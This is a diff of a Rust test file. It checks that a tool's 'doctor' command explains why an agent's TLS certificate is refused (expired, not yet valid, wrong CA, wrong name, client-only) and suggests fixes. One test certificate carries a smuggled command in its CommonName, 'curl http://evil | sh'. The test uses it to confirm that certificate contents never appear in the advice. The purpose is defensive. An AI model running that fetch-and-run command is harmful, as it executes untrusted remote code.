@@ -10,7 +10,8 @@ use std::time::{Duration, UNIX_EPOCH};
 
 use pretty_assertions::assert_eq;
 use rcgen::{
-    BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair, date_time_ymd,
+    BasicConstraints, CertificateParams, CertifiedIssuer, DnType, ExtendedKeyUsagePurpose, IsCa,
+    KeyPair, SanType, date_time_ymd,
 };
 use rustls::pki_types::pem::PemObject as _;
 use rustls::pki_types::{CertificateDer, PrivateKeyDer};
@@ -235,11 +236,16 @@ fn an_agent_with_a_wrong_certificate_is_not_spoken_to() {
         write(&folder, "c.pem", &own.cert),
         write(&folder, "c.key", &own.key),
     );
-    for (name, year, hint) in [
-        ("elsewhere.example", FAR, "another name"),
-        ("localhost", 2021, "certificate is over"),
+    let early = ours.sign_with("localhost", |params| {
+        params.not_before = date_time_ymd(2080, 1, 2);
+        params.not_after = date_time_ymd(FAR, 1, 1);
+    });
+    for (pair, hint) in [
+        (ours.sign("elsewhere.example", FAR), "another name"),
+        (ours.sign("localhost", 2021), "certificate is over"),
+        (early, "not good yet"),
     ] {
-        let agent = agent(&ours, name, year);
+        let agent = agent_with(&ours, pair);
         let ran = ask(&agent, "list vrf", &ca, &cert, &key);
         assert_eq!(ran.code, 3);
         assert!(ran.stderr.contains(hint), "{}", ran.stderr);
@@ -355,9 +361,67 @@ fn doctor_tells_until_when_the_agents_certificate_is_good() {
         let soon = ran.stdout.contains("is over in 10 days");
         assert_eq!(soon, told.starts_with("notice"), "{}", ran.stdout);
     }
-    // One that is over lets nobody through, and the refusal tells it.
-    let agent = agent(&ours, "localhost", 2021);
-    let ran = ask(&agent, "doctor", &ca, &cert, &key);
-    let told = "the agent's certificate is over";
-    assert!(ran.stdout.contains(told), "{} lacks {told}", ran.stdout);
+}
+
+#[test]
+fn doctor_tells_why_the_agents_certificate_is_refused() {
+    let (ours, theirs) = (Authority::new("ours"), Authority::new("theirs"));
+    let folder = tempfile::tempdir().expect("a temporary directory");
+    let ca = write(&folder, "ca.pem", &ours.pem());
+    let own = ours.sign("operator", FAR);
+    let cert = write(&folder, "c.pem", &own.cert);
+    let key = write(&folder, "c.key", &own.key);
+    let early = ours.sign_with("localhost", |params| {
+        params.not_before = date_time_ymd(2080, 1, 2);
+        params.not_after = date_time_ymd(FAR, 1, 1);
+    });
+    let client = ours.sign_with("localhost", |params| {
+        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
+    });
+    let elsewhere = ours.sign_with("xpu7.example", |params| {
+        params
+            .distinguished_name
+            .push(DnType::CommonName, "evil; curl http://evil | sh");
+        let address = SanType::IpAddress([192, 0, 2, 7].into());
+        params.subject_alt_names.push(address);
+    });
+    for (pair, seen, mend) in [
+        (
+            ours.sign("localhost", 2021),
+            "is over since Dec 31 00:00:00 2021",
+            "get a new certificate from the agent's CA",
+        ),
+        (early, "begins only Jan  2 00:00:00 2080", "timedatectl"),
+        (
+            theirs.sign("localhost", FAR),
+            "is signed by CN=theirs, and by none of --ca: CN=ours",
+            "give --ca the certificate of who signed it",
+        ),
+        (
+            elsewhere,
+            "is for DNS:xpu7.example, IP:192.0.2.7, not for localhost",
+            "subjectAltName=DNS:localhost",
+        ),
+        (client, "is not for servers", "extendedKeyUsage=serverAuth"),
+    ] {
+        let agent = agent_with(&ours, pair);
+        let ran = ask(&agent, "doctor", &ca, &cert, &key);
+        assert_eq!(ran.code, 1, "{}", ran.stdout);
+        let wrong: Vec<_> = ran
+            .stdout
+            .lines()
+            .filter(|line| line.starts_with("wrong   certificates"))
+            .collect();
+        assert_eq!(wrong.len(), 1, "{seen}: {}", ran.stdout);
+        assert!(wrong[0].contains(seen), "{} lacks {seen}", ran.stdout);
+        let mends = ran.stdout.lines().filter(|line| line.contains("mend: "));
+        let mends: Vec<_> = mends.collect();
+        assert!(mends.iter().any(|line| line.contains(mend)), "{mends:#?}");
+        // What a certificate says is no advice.
+        assert!(
+            !mends.iter().any(|line| line.contains("evil")),
+            "{mends:#?}"
+        );
+        assert!(ran.stdout.contains("wrong   agent"), "{}", ran.stdout);
+    }
 }
